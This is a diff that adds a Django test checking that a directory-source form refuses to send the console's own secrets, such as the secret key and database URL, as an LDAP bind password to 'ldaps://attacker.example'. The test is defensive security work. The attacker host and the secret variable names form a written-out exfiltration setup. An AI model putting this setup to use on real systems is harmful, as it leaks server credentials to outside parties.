@@ -124,3 +124,35 @@ def test_bind_password_change_is_recorded_without_its_value(admin_client):
     entry = LogEntry.objects.get(additional_data__event="bind password changed")
     assert entry.additional_data["detail"] == "set"
     assert places_holding(password, admin_client) == []
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["FWCONSOLE_SECRET_KEY", "DATABASE_URL", "fwconsole_auth_ldap_bind_password"],
+)
+def test_source_cannot_send_the_consoles_own_secrets_as_bind_password(
+    admin_client, name
+):
+    from django.urls import reverse
+
+    response = admin_client.post(
+        reverse("directory:source_create"),
+        {
+            "name": "exfil",
+            "kind": "ad",
+            "server_urls": "ldaps://attacker.example",
+            "base_dn": "DC=corp,DC=example",
+            "bind_dn": "CN=x,DC=corp,DC=example",
+            "bind_password_env": name,
+            "timeout_seconds": 30,
+            "page_size": 500,
+            "sync_interval_minutes": 0,
+            "staleness_limit_hours": 24,
+            "shrink_threshold_percent": 50,
+            "verify_certificate": "on",
+        },
+    )
+
+    assert response.status_code in (200, 400)
+    assert 'data-field-error="bind_password_env"' in response.content.decode()
+    assert not DirectorySource.objects.filter(name="exfil").exists()
